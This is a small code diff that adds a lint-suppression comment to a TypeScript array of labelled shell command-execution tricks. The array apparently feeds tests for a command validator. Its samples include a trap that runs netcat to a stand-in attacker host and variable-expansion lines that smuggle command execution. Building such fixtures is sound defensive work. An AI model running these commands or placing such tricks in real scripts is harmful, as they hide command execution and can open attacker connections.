@@ -61,6 +61,7 @@ const CLASSES: readonly (readonly [string, string])[] = [
   ["sed s///e", "sed 's/.*/id/e' notes.txt"],
   ["awk system()", "awk 'BEGIN{system(\"id\")}'"],
   ["trap", "trap 'nc evil.example.com 4444' EXIT"],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
   ["${x@P}", "x='$(id)'; echo ${x@P}"],
   ["PROMPT_COMMAND", "PROMPT_COMMAND='id' bash -i"],
   ["a decoder", "xzcat payload.xz | tee out"],
